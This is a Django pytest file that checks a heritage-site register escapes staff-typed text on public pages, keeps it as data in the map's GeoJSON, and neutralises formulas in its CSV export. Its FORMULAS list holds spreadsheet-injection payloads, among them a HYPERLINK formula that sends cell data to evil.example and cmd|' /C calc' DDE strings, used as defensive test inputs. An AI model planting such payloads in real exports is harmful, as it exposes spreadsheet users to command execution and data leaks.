"""Everything staff type reaches the public only as text: escaped in the pages, as data in
the map's GeoJSON, and never as a formula in the CSV export."""

import csv
import io
import json
import re
from decimal import Decimal

import pytest
from django.utils import translation

from heritage.models import LocationPrecision, Place, Site
from tests import factories
from tests.public.pages import fetch
from tests.public.restricted import ESCAPED, HOSTILE, register_models, typed_text_fields

pytestmark = pytest.mark.django_db


LANGUAGES = ["en", "az", "ar"]


def fill_with_hostile_text():
    """Every typed text field of every row gets the hostile text (with the row's id, where a
    field must be unique). Returns the number of fields filled."""
    filled = 0
    for model in register_models():
        fields = list(typed_text_fields(model))
        if not fields:
            continue
        for pk in model._base_manager.values_list("pk", flat=True):
            model._base_manager.filter(pk=pk).update(
                **{field.name: f"{HOSTILE}{pk}" for field in fields}
            )
        filled += len(fields)
    return filled


def test_hostile_text_in_every_typed_field_is_escaped_on_every_public_page(
    client, full_register, public_urls
):
    assert fill_with_hostile_text() > 30
    shown_escaped = set()
    for language in LANGUAGES:
        for url in public_urls:
            response, body = fetch(client, url, language)
            assert "<x-hostile" not in body or not response["Content-Type"].startswith(
                "text/html"
            ), url
            if response["Content-Type"].startswith("text/html"):
                if ESCAPED in body:
                    shown_escaped.add(url)
            elif "json" in response["Content-Type"]:
                # JSON carries the text as text: it parses back to exactly what was typed.
                collection = json.loads(body)
                names = [feature["properties"]["name"] for feature in collection["features"]]
                assert all(name.startswith(HOSTILE) for name in names), names
    # The hostile text is really shown (escaped) on the pages, not merely absent.
    assert {"/", "/figures/", "/visits/", "/sites/"} <= shown_escaped
    with translation.override("en"):  # the last request left its language active
        assert full_register["site"].get_absolute_url() in shown_escaped


def test_hostile_text_reaches_every_part_of_the_dossier_only_as_text(client, full_register):
    fill_with_hostile_text()
    _response, body = fetch(client, full_register["site"].get_absolute_url())
    # Names, place, description, claims, citations, assessment, disturbance, responsibility.
    assert body.count(ESCAPED) >= 10
    assert "<x-hostile" not in body


def test_hostile_text_reaches_the_map_only_as_data(client, full_register):
    """The map reads names from the GeoJSON and writes them as text (static/js/map.js); the
    page holds no name in a script."""
    fill_with_hostile_text()
    _response, body = fetch(client, "/sites/")
    for script in re.findall(r"<script\b[^>]*>(.*?)</script>", body, flags=re.S):
        assert script.strip() == ""


FORMULAS = [
    '=HYPERLINK("http://evil.example/?"&A1,"Open")',
    "+1+cmd|' /C calc'!A0",
    "-2+3",
    "@SUM(A1:A9)",
    "\t=1+1",
    "\r=1+1",
]


def csv_rows(client, url="/sites/export.csv"):
    _response, body = fetch(client, url)
    return list(csv.DictReader(io.StringIO(body)))


@pytest.mark.parametrize("formula", FORMULAS)
def test_csv_export_neutralises_formulas_in_every_text_cell(client, formula):
    site = factories.SiteFactory(
        published=True,
        latitude=Decimal("-12.5"),
        longitude=Decimal("-7"),
        location_precision=LocationPrecision.EXACT,
    )
    # Stored as they are, without the trimming of a save (records stored before it, say).
    Site.objects.filter(pk=site.pk).update(name=formula, dating_label=formula)
    Place.objects.filter(pk=site.place_id).update(name=formula)
    [row] = csv_rows(client)
    assert row["name"] == f"'{formula}"
    assert row["place"] == f"'{formula}"
    assert row["dating"] == f"'{formula}"
    for column, cell in row.items():
        if cell[:1] in ("=", "+", "-", "@", "\t", "\r"):
            # Only numbers (negative coordinates) may start so: a spreadsheet reads them as
            # numbers, never as formulas.
            assert re.fullmatch(r"-\d+(\.\d+)?", cell), (column, cell)
    assert row["latitude"] == "-12.500000"


def test_csv_export_neutralises_formulas_in_translated_names(client):
    site = factories.SiteFactory(published=True, name="Plain name")
    factories.SiteNameFactory(site=site, name="=cmd|'/C calc'!A0", language="az", kind="official")
    _response, body = fetch(client, "/sites/export.csv", "az")
    [row] = list(csv.DictReader(io.StringIO(body)))
    assert row["name"] == "'=cmd|'/C calc'!A0"
